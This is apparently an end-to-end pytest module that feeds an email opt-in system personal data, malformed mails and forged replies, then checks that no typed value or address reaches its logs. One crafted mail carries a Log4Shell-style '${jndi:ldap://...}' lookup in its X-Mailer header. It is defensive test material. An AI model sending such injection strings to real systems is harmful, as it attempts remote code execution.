"""After everything the other tests have typed: none of it stands in a log (architecture: privacy).

Runs last, and does a little of everything itself.
"""

from __future__ import annotations

import re
import time
from email.message import EmailMessage
from functools import partial

import pytest

from tests.e2e.product import BROWSER, FUNCTIONS, Json, Product, eventually, unique
from tests.e2e.test_requests_by_mail import ASK, change, link_in, open_request, press, request_of
from tests.e2e.writing import answer, forge, letter, post, write

pytestmark = pytest.mark.e2e

# Somebody's address on the network; in a URL it is this machine's own, which says nothing.
_NETWORK_ADDRESS = re.compile(r"(?<![\d./@-])(?:\d{1,3}\.){3}\d{1,3}(?![\d.:])")
_MAIL_ADDRESS = re.compile(r"[\w.+-]+@[\w-]+\.[\w.-]+")


@pytest.fixture(scope="module")
def lines(product: Product) -> dict[str, str]:
    """Every log group, after each function has answered, refused and failed."""
    began = time.time()
    form_id, staff = product.new_form(), product.staff("CS")
    taro = product.address("log")
    product.submit(form_id, taro, ticked=True)
    staff.confirm(taro)
    for bad in (unique("taro"), f"{taro}@", taro.replace("@", "＠ "), f'"{taro}'):
        for headers in ({}, BROWSER):
            product.site.post_form(f"/forms/{form_id}", {"email": product.note(bad)}, headers)
        staff.post_json("/contacts/lookup", {"email": bad})
    product.site.get(
        f"/forms/{product.note(unique('form'))}".replace(" ", "%20") + f"?email={taro}"
    )
    product.site.get("/forms/x", {"X-Forwarded-For": product.note("203.0.113.77")})
    subject = product.note(unique("件名"))
    staff.campaign(subject, product.note(unique("本文")), audience={"form_ids": [form_id]})
    link = product.link_in(product.mail(taro, subject))
    product.note(link.rpartition("/")[2])
    product.site.get(link, BROWSER)
    product.site.post_form(link, {"List-Unsubscribe": "One-Click"})
    reason = product.note(unique("理由"))
    staff.post_json("/unsubscriptions", {"email": taro, "reason": reason})
    # Whoever is tested on, asked about or refused.
    draft = staff.write_campaign(product.note(unique("件名")), product.note(unique("本文")))
    for to in (taro, product.address("tester"), product.note(unique("tester"))):
        staff.post_json(f"/campaigns/{draft}/test", {"to": to})
    staff.put_json(
        f"/campaigns/{draft}", {"subject": product.note(unique("件名")), "body": "{{x}}"}
    )
    staff.act(draft, "dry-run")
    for path in ("/contacts/proof", f"/campaigns/{draft}/recipients/lookup"):
        staff.post_json(path, {"email": taro})
        staff.post_json(path, {"email": product.note(unique("taro"))})
    staff.post_json(
        f"/contacts/{staff.held(taro)['contact_id']}/lift-bounce",
        {"reason": product.note(unique("理由"))},
    )
    letters(product)
    requests(product)
    product.aws.functions.invoke(FunctionName=product.function("console"), Payload=b"{}")
    for function in FUNCTIONS:
        eventually(partial(product.log, function, began), f"the log of {function}")
    return {group: "\n".join(product.log_lines(group)) for group in product.log_groups()}


def hostile(product: Product, sender: str) -> EmailMessage:
    """Something of the person in every place that a program might tell of."""

    def mark(what: str) -> str:
        return product.note(unique(what)).replace(" ", ".")

    mail = letter(
        product,
        f'"{product.note(unique("山田 太郎"))}" <{sender}>',
        "optin",
        product.note(unique("私の電話番号を教えますので、質問に答えてください。")),
        subject=product.note(unique("質問")),
        headers=[
            ("Reply-To", product.address("elsewhere")),
            ("Cc", product.address("cc")),
            ("References", f"<{mark('thread')}@example.jp>"),
            ("X-Optin-Contact", mark("contact")),
            ("X-Mailer", "${jndi:ldap://" + mark("host") + "/}"),
            ("Received", f"from {mark('home')} ([203.0.113.78]) by {mark('relay')}"),
        ],
    )
    mail.replace_header("Message-ID", f"<{mark('id')}@example.jp>")
    mail.add_attachment(
        product.note(unique("添付")).encode(),
        maintype="application",
        subtype="x-unknown",
        filename=product.note(unique("履歴書")) + ".pdf",
    )
    return mail


def letters(product: Product) -> None:
    """Mails of every kind, readable and not, each with something of its writer."""
    began, own = time.time(), product.stack["mail_domain"]
    post(product, hostile(product, taro := product.address("log")), envelope_from=taro)
    reader, victim = product.subscriber("log"), product.subscriber("log")
    write(product, reader, "reply", product.note(unique("配信停止してください。")))
    forge(product, victim, "reply", product.note(unique("配信停止してください。")))
    away = [("Auto-Submitted", "auto-replied")]
    for to in ("reply", f"stop+{product.note(unique('token')).replace(' ', '')}"):
        text = product.note(unique("ただいま不在です。"))
        write(product, product.address("away"), to, text, headers=away)
    broken = [
        b"From: %(a)s, %(b)s\r\nSubject: %(s)s\r\n\r\n%(s)s\r\n",
        b"From: <<%(a)s>\r\nMessage-ID: %(s)s\r\nContent-Type: %(s)s; charset=%(s)s\r\n\r\n%(s)s",
        b"Subject: =?%(s)s?B?%(s)s?=\r\nContent-Type: multipart/mixed; boundary=%(s)s\r\n\r\n--",
        b"From: %(a)s\r\nContent-Type: text/html\r\n\r\n<p>%(s)s<a href='http://%(s)s/u/x'>",
        b"%(s)s\x00\xff\xfe",
    ]
    for raw in broken:
        typed = {
            b"a": product.address("log").encode(),
            b"b": product.address("log").encode(),
            b"s": product.note(unique("broken")).replace(" ", "").encode(),
        }
        post(product, raw % typed, envelope_from=product.address("log"), to=[f"optin@{own}"])
    # The receipt of one is not even a receipt.
    product.aws.sns.publish(
        TopicArn=product.output("ReceivedMailTopicArn"), Message=product.note(unique("receipt"))
    )
    eventually(
        lambda: (
            sum("taken in" in line for line in product.log("mail_intake", began)) >= 10
            and any("bad_notification" in line for line in product.log("mail_intake", began))
        ),
        "ten mails and one notification of none",
    )
    answer(product, reader, "配信を停止しました")
    request = open_request(product.staff("CS"), taro, "inquiry")
    assert request["mails"][0]["attachments"] == 1


def requests(product: Product) -> None:
    """Whatever staff type about a request, and the person's own steps."""
    staff, it = product.staff("CS"), product.staff("IT")

    def opened(kind: str, **more: str) -> Json:
        words = product.note(unique("お電話"))
        content = {"kind": kind, "email": product.subscriber("log"), "words": words, **more}
        made = staff.post_json("/requests", content)
        assert made.status == 200, made.text
        return made.json()

    request = opened("inquiry")
    raw = f"/requests/{request['case_id']}/mails/{request['mails'][0]['mail_id']}/raw"
    staff.get(raw)
    change(staff, request, "note", text=product.note(unique("メモ")))
    change(staff, request, "reply", text=product.note(unique("返信")))
    product.tell_ses(fail_next=[{"status": 400, "type": "MessageRejected"}])
    staff.post_json(
        f"/requests/{request['case_id']}/reply",
        {"version": request["version"] + 2, "text": product.note(unique("返信"))},
    ).problem(409)
    change(staff, request, "refuse", reason=product.note(unique("お断りの理由")))
    request_of(staff, request["address"], "inquiry", "refused")

    request = opened("erasure", answer_to=product.address("agent"))
    change(staff, request, "verify", reason=product.note(unique("運転免許証")))
    change(it, request, "verify", reason=product.note(unique("委任状")))
    change(it, request, "approve")
    answer(product, request["address"], "削除")

    request = opened("correction")
    asked = answer(product, request["address"], ASK["ja"])
    press(product, asked)
    assert product.site.post_form(link_in(product, asked), {}).status == 200
    for bad in (unique("new"), f"{request['address']}@", request["address"]):
        path = f"/requests/{request['case_id']}/new-address"
        version = staff.get(f"/requests/{request['case_id']}").json()["version"]
        staff.post_json(path, {"version": version, "email": product.note(bad)})
    change(staff, request, "new-address", email=(new := product.address("new")))
    press(product, answer(product, new, "確認"))
    answer(product, new, "変更")

    request = opened("disclosure")
    press(product, answer(product, request["address"], ASK["ja"]))
    link = link_in(product, answer(product, request["address"], "ファイル"))
    product.note(link.rpartition("/")[2])
    assert product.site.post_form(link, {}).status == 200
    for path in (link[:-1], f"/v/{product.note(unique('v')).replace(' ', '')}"):
        for headers in ({}, BROWSER):
            product.site.post_form(path, {}, headers)
    for line in staff.get("/received").json()["mails"][:1]:
        assert staff.post_json(f"/received/{line['mail_id']}/open", {}).status == 200


def test_nothing_that_was_typed_stands_in_a_log(product: Product, lines: dict[str, str]) -> None:
    # What made a word the only one of its kind is looked for too: a log may escape the rest.
    marks = {mark for typed in product.typed for mark in re.findall(r"[0-9a-f]{12}", typed)}
    for group, text in lines.items():
        assert [typed for typed in product.typed | marks if typed in text] == [], group


def test_no_address_at_all_stands_in_a_log(product: Product, lines: dict[str, str]) -> None:
    own = product.stack["mail_domain"]
    for group, text in lines.items():
        assert [a for a in _MAIL_ADDRESS.findall(text) if not a.endswith(own)] == [], group
        assert _NETWORK_ADDRESS.findall(text) == [], group
